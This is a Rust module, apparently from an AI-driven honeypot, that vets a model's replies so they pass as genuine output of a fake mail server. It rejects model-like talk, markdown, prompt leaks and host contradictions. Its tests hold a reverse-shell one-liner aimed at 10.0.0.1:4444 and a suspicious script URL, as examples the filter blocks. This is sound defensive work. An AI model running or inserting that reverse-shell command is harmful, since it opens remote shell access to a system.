//! No sentence of a model reaches a visitor unless the real thing could have said it. Plain rules, no second model;
//! whatever breaks one is replaced by the fallback.

pub(super) mod page;
mod talk;

use std::borrow::Cow;

/// What an answer must look like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Grammar {
    /// `NNN text`, or `NNN-text` lines that end with `NNN text` of the same code (RFC 959, RFC 5321).
    Codes,
    /// A whole HTTP/1 response, or an HTML page.
    Http,
    /// What a program prints on a terminal.
    Terminal,
    /// Lines of a text protocol.
    Text,
    /// The content of a text file.
    File,
    /// A page as JSON: status, headers, body.
    Page,
}

/// What an answer is held against.
#[derive(Clone, Debug)]
pub(super) struct Rules {
    /// What it must look like.
    pub grammar: Grammar,
    /// The longest one, in bytes.
    pub longest: usize,
    /// What the model was told: no line of it may come back.
    pub told: Vec<String>,
    /// A word of the prompt that nobody else knows.
    pub canary: String,
    /// Facts of the host that it may not contradict, and names that it may say.
    pub host: Facts,
}

/// Facts of the host.
#[derive(Clone, Debug, Default)]
pub(super) struct Facts {
    /// `5.4.0-169-generic`
    pub kernel: String,
    /// `Ubuntu 20.04.6 LTS`
    pub system: String,
    /// The host's names: `mail.example.com`, `mail`, `example.com`.
    pub names: Vec<String>,
}

/// The longest answer in bytes.
pub(super) const LONGEST: usize = 8192;

/// The shortest line of a prompt that is told from chance.
const TOLD: usize = 24;

/// The answer, trimmed, if it may be sent; else the name of the rule that it breaks.
pub(super) fn check(answer: &str, question: &str, rules: &Rules) -> Result<String, &'static str> {
    let grammar = rules.grammar;
    let answer = if grammar == Grammar::File { answer.trim_end() } else { answer.trim() };
    if answer.is_empty() && grammar != Grammar::Terminal {
        return Err("empty");
    }
    if answer.len() > rules.longest {
        return Err("too long");
    }
    if !answer.bytes().all(|b| matches!(b, b'\n' | b'\r' | b'\t' | 0x20..=0x7e)) {
        return Err("charset");
    }
    if !rules.canary.is_empty() && answer.contains(&rules.canary) {
        return Err("canary");
    }
    let lower = answer.to_ascii_lowercase();
    if rules.told.iter().any(|line| line.len() >= TOLD && answer.contains(line.as_str())) {
        return Err("echo of the prompt");
    }
    // Files of configuration have comments, pages have headings.
    let headings = matches!(grammar, Grammar::File | Grammar::Page | Grammar::Http);
    if answer.contains("```")
        || (grammar != Grammar::File && answer.contains("**"))
        || (!headings && answer.lines().any(|line| line.starts_with("# ") || line.starts_with("## ")))
    {
        return Err("markdown");
    }
    // In JSON the end of a line stands before the next word.
    let spoken = if grammar == Grammar::Page { Cow::Owned(lower.replace("\\n", "\n")) } else { Cow::Borrowed(&*lower) };
    if talk::is_talk(&spoken, headings) || (grammar != Grammar::File && talk::is_somebody(&spoken)) {
        return Err("model talk");
    }
    let question = question.trim();
    if question.len() > 3
        && answer.lines().next().is_some_and(|first| first.trim_start_matches(['$', '#', ' ']) == question)
    {
        return Err("echo of the question");
    }
    if talk::is_harm(&lower) {
        return Err("harm");
    }
    if talk::names_strangers(&lower, &question.to_ascii_lowercase(), &rules.host) {
        return Err("third party");
    }
    if talk::contradicts(answer, &rules.host) {
        return Err("contradiction");
    }
    let shaped = match grammar {
        Grammar::Codes => codes(answer),
        Grammar::Http => http(answer),
        Grammar::Terminal => !prose(answer) && !answer.contains('`') && !prompt(answer),
        Grammar::Text => !prose(answer) && !answer.contains('`'),
        Grammar::File => !prompt(answer),
        Grammar::Page => page::Page::parse(answer).is_some(),
    };
    if shaped { Ok(answer.into()) } else { Err("grammar") }
}

/// What is left of an answer without the wrapping that models like: a fence around it, a line that announces it, the command
/// in front of it.
pub(super) fn tidy<'a>(answer: &'a str, question: &str) -> Cow<'a, str> {
    let mut text = answer.trim_matches(['\n', '\r']);
    if let Some((before, rest)) = text.split_once("```") {
        let (body, after) = rest.split_once("```").unwrap_or((rest, ""));
        // One block, and little around it.
        if !after.contains("```") && before.lines().count() <= 2 {
            text = body.split_once('\n').map_or(body, |(_, body)| body).trim_end();
        }
    }
    let first = text.lines().next().unwrap_or_default();
    if first.trim_start_matches(['$', '#', ' ']) == question.trim() && question.len() > 3 {
        text = text.split_once('\n').map_or("", |(_, rest)| rest);
    }
    // Terminals have no such quotes and dashes, files of a C.UTF-8 host seldom.
    if text.is_ascii() {
        return Cow::Borrowed(text);
    }
    let plain = text.chars().map(|c| match c {
        '\u{2018}' | '\u{2019}' => '\'',
        '\u{201c}' | '\u{201d}' => '"',
        '\u{2013}' | '\u{2014}' => '-',
        '\u{a0}' => ' ',
        other => other,
    });
    Cow::Owned(plain.collect())
}

fn codes(answer: &str) -> bool {
    let code_of = |line: &str| -> Option<(u16, char)> {
        let (code, rest) = line.split_at_checked(3)?;
        let code: u16 = code.parse().ok()?;
        let mark = rest.chars().next()?;
        ((100..600).contains(&code) && matches!(mark, ' ' | '-') && line.len() <= 512).then_some((code, mark))
    };
    let marks: Option<Vec<(u16, char)>> = answer.lines().map(code_of).collect();
    let Some((last, before)) = marks.as_deref().and_then(<[_]>::split_last) else { return false };
    last.1 == ' ' && before.iter().all(|mark| *mark == (last.0, '-'))
}

fn http(answer: &str) -> bool {
    let lower = answer.get(..15).unwrap_or(answer).to_ascii_lowercase();
    if lower.starts_with("<!doctype html") || lower.starts_with("<html") {
        return lower.len() < answer.len() && answer.trim_end().to_ascii_lowercase().ends_with("</html>");
    }
    let unified = answer.replace('\r', "");
    let Some(head) = unified.split("\n\n").next() else { return false };
    let mut lines = head.lines();
    let status =
        lines.next().and_then(|line| line.strip_prefix("HTTP/1.1 ").or_else(|| line.strip_prefix("HTTP/1.0 ")));
    let code = status.and_then(|status| status.get(..3)).and_then(|code| code.parse::<u16>().ok());
    let named = |line: &str| line.split_once(':').is_some_and(|(name, _)| !name.is_empty() && !name.contains(' '));
    code.is_some_and(|code| (200..600).contains(&code)) && lines.all(named)
}

/// A sentence: six words or more, a capital first, a full stop, colon or the like last. Programs print such lines too,
/// but seldom; losing one costs nothing.
fn prose(answer: &str) -> bool {
    let sentence = |line: &str| {
        let line = line.trim();
        let words = line.split_whitespace().filter(|word| word.chars().any(char::is_alphabetic)).count();
        let capital = line.chars().next().is_some_and(|first| first.is_ascii_uppercase() || first == '"');
        words >= 6 && capital && line.ends_with(['.', ':', '!', '?', '"']) && !line.starts_with("Try '")
    };
    let wordy = |line: &str| line.split_whitespace().count() >= 18 && line.contains(". ");
    answer.lines().any(|line| sentence(line) || wordy(line))
}

/// A made-up shell prompt inside the answer.
fn prompt(answer: &str) -> bool {
    answer.lines().any(|line| {
        let head = line.split_whitespace().next().unwrap_or_default();
        head.contains('@') && (head.ends_with('$') || head.ends_with('#'))
    })
}

#[cfg(test)]
mod tests {
    use super::Grammar::{Codes, File, Http, Page, Terminal, Text};
    use super::*;

    fn rules(grammar: Grammar) -> Rules {
        let host = Facts {
            kernel: "5.4.0-169-generic".into(),
            system: "Ubuntu 20.04.6 LTS".into(),
            names: vec!["mail.kestrel.example".into(), "mail".into()],
        };
        let told = vec!["You write what a program prints on this host.".into()];
        Rules { grammar, longest: LONGEST, told, canary: "RX-7f3a91".into(), host }
    }

    #[test]
    fn what_programs_print_passes() {
        for (answer, grammar) in [
            ("250 2.1.0 Ok", Codes),
            ("211-Features:\n211-PASV\n211 End", Codes),
            ("NAME   MAJ:MIN RM SIZE RO TYPE MOUNTPOINT\nsda      8:0    0  20G  0 disk", Terminal),
            ("lsblk: invalid option -- 'y'\nTry 'lsblk --help' for more information.", Terminal),
            ("", Terminal),
            ("HTTP/1.1 200 OK\r\nServer: nginx\r\n\r\nhello", Http),
            ("<html><body>ok</body></html>", Http),
            ("+OK ready", Text),
            ("Linux mail 5.4.0-169-generic #187-Ubuntu SMP x86_64 GNU/Linux", Terminal),
            ("# backup\n[mysqld]\nport = 3306\n# see http://www.debian.org/", File),
            ("{\"status\": 200, \"body\": \"{}\"}", Page),
            ("eth0: mii have link, -i have, /i am/", Terminal),
            ("note to self: I have moved the backups", File),
        ] {
            assert_eq!(check(answer, "question", &rules(grammar)), Ok(answer.to_string()), "{answer}");
        }
    }

    #[test]
    fn what_models_say_does_not() {
        for (answer, grammar, rule) in [
            ("I'm sorry, but I can't help with that.", Terminal, "model talk"),
            ("```\nroot\n```", Terminal, "markdown"),
            ("Linux is an operating system that many people use.", Terminal, "grammar"),
            ("root@mail:~# ls\nfile", Terminal, "grammar"),
            ("lsblk -f\nsda", Terminal, "echo of the question"),
            ("Welcome to the server", Codes, "grammar"),
            ("250-a\n500 b", Codes, "grammar"),
            ("250-a", Codes, "grammar"),
            ("Welcome, world", Http, "grammar"),
            ("<html><body>Hello World</body></html>", Http, "model talk"),
            ("{\"status\": 200, \"body\": \"Welcome!\\nI'm a server in the rack.\"}", Page, "model talk"),
            ("{\"status\": 200, \"body\": \"my name is mail\"}", Page, "model talk"),
            ("ok, I have 3 disks", Terminal, "model talk"),
            ("HTTP/1.1 200 OK\nThis is a page", Http, "grammar"),
            ("caf\u{e9}", Text, "charset"),
            ("", Text, "empty"),
            ("the word is RX-7f3a91", Text, "canary"),
            ("x: You write what a program prints on this host.", File, "echo of the prompt"),
            ("mirror http://evil-host.ru/a.sh", File, "third party"),
            ("8.8.8.8 is up", Terminal, "third party"),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", File, "harm"),
            ("Linux mail 6.1.0-18-amd64 x86_64", Terminal, "contradiction"),
            ("Ubuntu 22.04.3 LTS", Terminal, "contradiction"),
            ("user: John Doe", File, "model talk"),
            ("{\"status\": 99, \"body\": \"\"}", Page, "grammar"),
            ("not json", Page, "grammar"),
        ] {
            assert_eq!(check(answer, "lsblk -f", &rules(grammar)), Err(rule), "{answer}");
        }
        assert_eq!(check(&"x".repeat(9000), "q", &rules(Text)), Err("too long"));
    }

    #[test]
    fn wrapping_is_taken_off() {
        for (answer, wanted) in [
            ("```\nsda\n```", "sda"),
            ("Here is the output:\n```bash\nsda\nsdb\n```\n", "sda\nsdb"),
            ("$ lsblk -f\nsda", "sda"),
            ("sda\n", "sda"),
            ("it\u{2019}s", "it's"),
            ("a ``` b ``` c ``` d", "a ``` b ``` c ``` d"),
        ] {
            assert_eq!(tidy(answer, "lsblk -f"), wanted, "{answer}");
        }
    }
}
